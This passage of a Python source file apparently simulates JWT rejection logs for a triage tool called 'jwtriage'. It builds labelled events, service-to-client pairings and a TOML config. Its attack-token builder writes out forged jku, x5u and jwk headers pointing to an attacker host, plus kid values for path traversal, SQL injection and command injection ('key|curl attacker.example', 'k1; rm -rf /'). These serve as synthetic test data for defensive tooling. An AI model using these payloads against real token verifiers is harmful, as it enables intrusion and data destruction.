        text = f"{_b64json(header)}.{_b64json(claims)}.{_b64(half + half)}"
        intended = Cause.BAD_SIGNATURE
    else:
        attacker = keys["att-es-1"] if variant == "jwk-known-kid" else keys["att-rs-1"]
        alg = attacker.alg
        kid = {
            "jku-known-kid": corp_rsa,
            "jwk-known-kid": "corp-es-2026",
            "kid-traversal": "../../../../../../dev/null",
            "kid-sqli": "x' OR '1'='1",
            "kid-command": world.rng.choice(["key|curl attacker.example", "$(id)", "`id`", "k1; rm -rf /"]),
            "kid-nul": f"{corp_rsa}\x00.pem",
        }.get(variant, "att-rs-1")
        header = {"alg": alg, "typ": "JWT", "kid": kid}
        if variant.startswith("jku"):
            header["jku"] = f"{_ATTACKER}/.well-known/jwks.json"
        elif variant == "x5u":
            header["x5u"] = f"{_ATTACKER}/cert.pem"
        elif variant.startswith("jwk"):
            header["jwk"] = {**attacker.public_jwk, "kid": kid}
        signing_input = f"{_b64json(header)}.{_b64json(claims)}".encode("ascii")
        text = f"{signing_input.decode()}.{_b64(_raw_sign(attacker, alg, signing_input))}"
        intended = Cause.BAD_SIGNATURE if variant in ("jku-known-kid", "jwk-known-kid") else Cause.UNKNOWN_KID
    token = world._wrap(text, None, None, None, None, world._mode(0.9, 0.1))
    return token, intended, intended.value, world.rng.choice([None, None, "web-app"])


_BUILDERS: dict[str, Callable[[_World, _Plan, _ServiceSpec, _ClientSpec | None], _BuildResult]] = {
    "rotation-stale-cache": _rotation,
    "rotation-unpublished-key": _rotation,
    "rotation-retired-key": _rotation,
    "expired-token-reuse": _expired,
    "clock-behind": _clock_behind,
    "clock-ahead": _clock_ahead,
    "clock-far-ahead": _clock_ahead,
    "buggy-validator": _buggy_validator,
    "wrong-audience": _wrong_audience,
    "unauthorized-party": _unauthorized_party,
    "missing-aud": _missing_aud,
    "staging-token": _staging,
    "issuer-typo": _issuer_typo,
    "missing-claim": _missing_claim,
    "tampered-payload": _tampered,
    "corrupted-signature": _tampered,
    "dev-key": _dev_key,
    "wrong-alg": _wrong_alg,
    "malformed": _malformed,
    "jwe": _jwe,
    "attack": _attack,
}

#: Which (service, client, weight) pairs each kind happens at; service traffic multiplies in.
_PAIRS: dict[str, tuple[tuple[str, str | None, float], ...]] = {
    "expired-token-reuse": tuple(
        (s, c, 1.0)
        for c in ("web-app", "mobile-app", "checkout-worker", "tv-app", "partner-sync", "partner-portal")
        for s in _CLIENT_BY_NAME[c].services
    ),
    "clock-behind": tuple(
        (s, c, 1.0) for c in ("checkout-worker", "tv-app") for s in _CLIENT_BY_NAME[c].services
    ),
    "clock-ahead": tuple((s, "kiosk-fleet", 1.0) for s in _CLIENT_BY_NAME["kiosk-fleet"].services),
    "clock-far-ahead": tuple((s, "pos-terminal", 1.0) for s in _CLIENT_BY_NAME["pos-terminal"].services),
    "buggy-validator": (
        ("orders-api", "web-app", 1.0), ("orders-api", "mobile-app", 1.0), ("reports-api", "web-app", 0.6),
        ("reports-api", "mobile-app", 0.4), ("edge-proxy", "mobile-app", 0.3),
    ),
    "wrong-audience": (
        ("inventory-svc", "web-app", 1.0), ("orders-api", "checkout-worker", 1.0),
        ("reports-api", "checkout-worker", 0.5), ("partner-gateway", "web-app", 0.5),
    ),
    "unauthorized-party": (("payments-api", "mobile-app", 1.0),),
    "missing-aud": (("reports-api", "partner-sync", 1.0),),
    "staging-token": (("payments-api", "qa-runner", 1.0), ("orders-api", "qa-runner", 1.0)),
    "issuer-typo": (
        ("payments-api", "web-app", 1.0), ("orders-api", "web-app", 1.0), ("reports-api", "web-app", 1.0),
    ),
    "missing-claim": (
        ("payments-api", "reconcile-job", 1.0), ("billing-legacy", "reconcile-job", 1.0),
        ("partner-gateway", "partner-portal", 1.0),
    ),
    "tampered-payload": (
        ("payments-api", "web-app", 1.0), ("orders-api", "mobile-app", 1.0), ("edge-proxy", "web-app", 1.0),
    ),
    "corrupted-signature": (("payments-api", "web-app", 1.0), ("orders-api", "web-app", 1.0)),
    "dev-key": tuple((s, "dev-laptop", 1.0) for s in _CLIENT_BY_NAME["dev-laptop"].services),
    "wrong-alg": (
        ("reports-api", "analytics-etl", 1.0), ("orders-api", "sso-bridge", 0.5),
        ("reports-api", "sso-bridge", 0.5),
    ),
    "malformed": tuple(
        (s, c, 1.0) for c in ("web-app", "mobile-app", "partner-sync") for s in _CLIENT_BY_NAME[c].services
    ),
    "jwe": (("payments-api", "web-app", 1.0), ("partner-gateway", "partner-sync", 1.0)),
    "reported-only": (
        ("edge-proxy", None, 3.0), ("billing-legacy", "checkout-worker", 4.0),
        ("inventory-svc", "batch-exporter", 1.0), ("partner-gateway", "partner-sync", 1.0),
        ("payments-api", "web-app", 0.5), ("reports-api", "web-app", 1.0), ("orders-api", "mobile-app", 0.5),
    ),
}  # fmt: skip


# -- the config ---------------------------------------------------------------------------------


def _toml_list(values: Sequence[str]) -> str:
    return "[" + ", ".join(json.dumps(v) for v in values) + "]"


def _config_toml(seed: int) -> str:
    """A complete jwtriage config (DESIGN.md contract) naming every issuer and service."""
    lines = [
        f"# jwtriage config for the simulated key-rotation scenario (pipeline/simulate.py, seed {seed}).",
        "# The JWKS cache notes are the simulator's, for people; jwtriage does not read them.",
        "",
        "[classify]",
        f"skew_window_seconds = {SKEW_WINDOW_SECONDS}",
        f"max_jwks_cache_ttl_seconds = {MAX_JWKS_CACHE_TTL_SECONDS}",
    ]
    for issuer in _ISSUERS:
        lines += [
            "",
            "[[issuers]]",
            f'name = "{issuer.name}"',
            f'issuer = "{issuer.url}"',
            f'jwks_uri = "{issuer.url}/.well-known/jwks.json"',
            f"algorithms = {_toml_list(issuer.algorithms)}",
        ]
    for service in _SERVICES:
        refresh = (
            "refetches on an unknown kid"
            if service.refresh_on_unknown_kid
            else "no refetch on an unknown kid"
        )
        ttl = f"{service.ttl_s // 3600} h" if service.ttl_s >= 3600 else f"{service.ttl_s // 60} min"
        reports = "reports" if service.fetch_time == "reported" else "does not report"
        lines += [
            "",
            f"# JWKS cache: TTL {ttl}, {refresh}; {reports} its fetch time.",
            "[[services]]",
            f'name = "{service.name}"',
            f"issuers = {_toml_list(service.issuers)}",
            f'audience = "{service.audience}"',
            f"leeway_seconds = {service.leeway_s}",
            f"required_claims = {_toml_list(service.required)}",
        ]
        if service.parties is not None:
            lines.append(f"authorized_parties = {_toml_list(service.parties)}")
    return "\n".join(lines) + "\n"


# -- entry points -------------------------------------------------------------------------------


def _simulate(
    seed: int, events: int, hours: float, start: datetime | None, unique_tokens: bool
) -> tuple[Scenario, list[Cause | None]]:
    """`simulate`, plus the cause each event was built to have (for the cross-check in tests)."""
    if events < 0:
        raise ValueError("events must be >= 0")
    world = _World(seed, hours, start or DEFAULT_START, unique_tokens)
    built = [world.build(plan) for plan in world.plan(events)]
    truth = [{"line": n, **b.truth} for n, b in enumerate(built, 1)]
    samples = sorted(world.samples, key=lambda r: r.ts)
    scenario = Scenario(
        config_toml=_config_toml(seed),
        snapshots=list(world.snapshot_records),
        events=[b.record for b in built],
        samples=samples,
        truth=truth,
    )
    return scenario, [b.intended for b in built]


def simulate(
    seed: int = 7,
    events: int = 20_000,
    hours: float = 24.0,
    start: datetime | None = None,
    unique_tokens: bool = False,
) -> Scenario:
    """Simulate `hours` of rejections from `start` (default DEFAULT_START), `events` lines.

    Deterministic: the same arguments give byte-identical records. Clients reuse a token
    while it is valid, as real ones do (which also exercises the signature cache);
    `unique_tokens=True` signs a fresh token for every event instead, for benchmarks.
    """
    return _simulate(seed, events, hours, start, unique_tokens)[0]


def write_scenario(scenario: Scenario, out_dir: Path) -> dict[str, Path]:
    """Write the config, the three streams as JSONL and the truth; returns the paths by role."""
    out_dir.mkdir(parents=True, exist_ok=True)
    paths = {
        "config": out_dir / "jwtriage.toml",
        "jwks": out_dir / "jwks.jsonl",
        "events": out_dir / "events.jsonl",
        "samples": out_dir / "samples.jsonl",
        "truth": out_dir / "truth.jsonl",
    }
    paths["config"].write_text(scenario.config_toml, encoding="utf-8")
    for role, records in (
        ("jwks", scenario.snapshots),
        ("events", scenario.events),
        ("samples", scenario.samples),
    ):
        paths[role].write_bytes(b"".join(r.value + b"\n" for r in records))
    paths["truth"].write_text(
        "".join(json.dumps(row, separators=(",", ":")) + "\n" for row in scenario.truth), encoding="utf-8"
    )
    return paths
